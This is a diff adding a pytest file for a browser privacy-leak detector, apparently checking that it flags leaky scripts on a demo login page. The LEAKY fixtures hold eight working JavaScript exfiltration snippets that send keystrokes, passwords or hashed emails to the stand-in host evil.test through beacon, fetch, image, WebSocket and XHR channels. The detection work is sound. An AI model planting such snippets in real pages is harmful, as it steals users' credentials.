@@ -1,0 +1,121 @@
+"""The privacy rules in a real browser: deliberately leaky snippets on the demo site are each caught with the
+right rule, channel and encoding; a well-behaved snippet produces no finding."""
+
+from __future__ import annotations
+
+import io
+import json
+from pathlib import Path
+
+import pytest
+
+from harness.cli import ExitStatus, main
+
+SITE = Path(__file__).resolve().parent.parent / "scenarios" / "site"
+
+LOGIN = """
+name: Login
+start: https://shop.test/login.html
+secrets:
+  email: "{canary:email}"
+  password: "{canary:password}"
+steps:
+  - type: {selector: "#email", text: "{email}", delay: 5}
+  - type: {selector: "#password", text: "{password}", delay: 5}
+  - wait: 400
+  - submit: "#login-form"
+  - expect: {text: "Welcome back"}
+  - leave: close
+"""
+
+# Each leaky snippet, and a finding it must produce: (rule, field, channel, a part of the encoding chain).
+LEAKY: list[tuple[str, str, tuple[str, str, str, str]]] = [
+    ("keylogger-one-key-per-beacon",
+     "addEventListener('keydown', (e) => navigator.sendBeacon('https://evil.test/k', JSON.stringify({k: e.key})), true);",
+     ("never-sent", "#password", "beacon", "plain")),
+    ("base64-json-via-fetch",
+     """addEventListener('submit', () => { const v = document.querySelector('#password').value;
+        fetch('https://evil.test/f', {method: 'POST', body: btoa(JSON.stringify({pw: v})), keepalive: true}); }, true);""",
+     ("never-sent", "#password", "fetch", "base64")),
+    ("sha256-email-in-image-url",
+     """addEventListener('change', async (e) => { if (e.target.id !== 'email') return;
+        const d = await crypto.subtle.digest('SHA-256', new TextEncoder().encode(e.target.value));
+        new Image().src = 'https://evil.test/p.gif?h=' + Array.from(new Uint8Array(d)).map((b) => b.toString(16).padStart(2, '0')).join(''); }, true);""",
+     ("not-before-submit", "#email", "image", "plain")),
+    ("gzip-batch",
+     """let t; addEventListener('input', (e) => { clearTimeout(t); const v = e.target.value; t = setTimeout(async () => {
+        const s = new Blob([JSON.stringify({events: [{v}]})]).stream().pipeThrough(new CompressionStream('gzip'));
+        fetch('https://evil.test/batch', {method: 'POST', body: await new Response(s).arrayBuffer()}); }, 100); }, true);""",
+     ("never-sent", "#password", "fetch", "gzip")),
+    ("websocket",
+     """const ws = new WebSocket('wss://evil.test/ws');
+        addEventListener('input', (e) => { if (ws.readyState === 1) ws.send(JSON.stringify({v: e.target.value})); }, true);""",
+     ("never-sent", "#password", "websocket", "plain")),
+    ("beacon-at-unload",
+     """addEventListener('pagehide', () => { const p = document.querySelector('#password');
+        if (p) navigator.sendBeacon('https://evil.test/bye', 'pw=' + encodeURIComponent(p.value)); });""",
+     ("never-sent", "#password", "beacon", "plain")),
+    ("delayed-xhr",
+     """addEventListener('input', (e) => { const v = e.target.value; setTimeout(() => {
+        const x = new XMLHttpRequest(); x.open('POST', 'https://evil.test/x'); x.send(v); }, 150); }, true);""",
+     ("never-sent", "#password", "xhr", "plain")),
+    ("stash-in-localstorage",
+     "addEventListener('input', (e) => localStorage.setItem('last-' + e.target.id, e.target.value), true);",
+     ("at-rest", "#password", "storage", "plain")),
+]
+
+WELL_BEHAVED = """
+(() => {
+  const stopped = () => document.cookie.includes('tt_optout=1');
+  window.telltale = { optOut() { document.cookie = 'tt_optout=1; path=/'; } };
+  const send = (data) => stopped() || navigator.sendBeacon('/telltale/collect', JSON.stringify(data));
+  addEventListener('click', (e) => send({t: 'click', x: e.clientX, y: e.clientY}), true);
+  addEventListener('pointermove', (e) => send({t: 'move', x: e.clientX, y: e.clientY}), true);
+  addEventListener('keydown', () => send({t: 'key'}), true);
+  addEventListener('submit', (e) => {
+    const fields = {};
+    for (const el of e.target.elements) {
+      if (!el.name || el.type === 'password' || el.type === 'hidden' || /cc-|one-time|password/.test(el.autocomplete)) continue;
+      if (el.closest('[data-sensitive]') || /^(pin|cvv|card)$/.test(el.name)) continue;
+      fields[el.name] = el.value;
+    }
+    send({t: 'submit', fields});
+  }, true);
+})();
+"""
+
+
+def _run(tmp_path: Path, snippet: str, scenarios: list[str], browser: str = "chromium") -> tuple[int, dict[str, object]]:
+    snippet_file = tmp_path / "snippet.js"
+    snippet_file.write_text(snippet)
+    out, err = io.StringIO(), io.StringIO()
+    status = main(
+        ["run", *scenarios, "--site", str(SITE), "--snippet", str(snippet_file), "--report", str(tmp_path / "r"),
+         "--browser", browser], out, err,
+    )
+    return status, json.loads((tmp_path / "r" / "results.json").read_text())
+
+
+@pytest.mark.parametrize(("name", "snippet", "expected"), LEAKY, ids=[case[0] for case in LEAKY])
+def test_leaky_snippet_is_caught(tmp_path: Path, name: str, snippet: str, expected: tuple[str, str, str, str]) -> None:
+    scenario = tmp_path / "login.yaml"
+    scenario.write_text(LOGIN)
+    status, results = _run(tmp_path, snippet, [str(scenario)])
+    (run,) = results["runs"]  # type: ignore[misc]
+    assert status == ExitStatus.CHECK_FAILED, run
+    rule, field, channel, encoding = expected
+    found = [(f["rule"], f["field"], f["channel"], f["encoding"]) for f in run["findings"]]
+    assert any(r == rule and f == field and c == channel and encoding in e for r, f, c, e in found), found
+    # Evidence never carries the value itself: every excerpt shows the fingerprint instead.
+    timeline = json.loads((tmp_path / "r" / run["dir"] / "timeline.json").read_text())
+    marks = {t["fingerprint"] for t in timeline["typed"]}
+    assert all(f["fingerprint"] in marks for f in run["findings"])
+
+
+def test_well_behaved_snippet_has_no_findings_on_any_bundled_scenario(tmp_path: Path) -> None:
+    root = Path(__file__).resolve().parent.parent / "scenarios"
+    status, results = _run(tmp_path, WELL_BEHAVED, [str(root)])
+    runs = results["runs"]
+    assert len(runs) >= 10  # type: ignore[arg-type]
+    problems = {r["file"]: r["findings"] or r["error"] for r in runs if r["status"] != "passed"}  # type: ignore[union-attr]
+    assert not problems and status == ExitStatus.OK
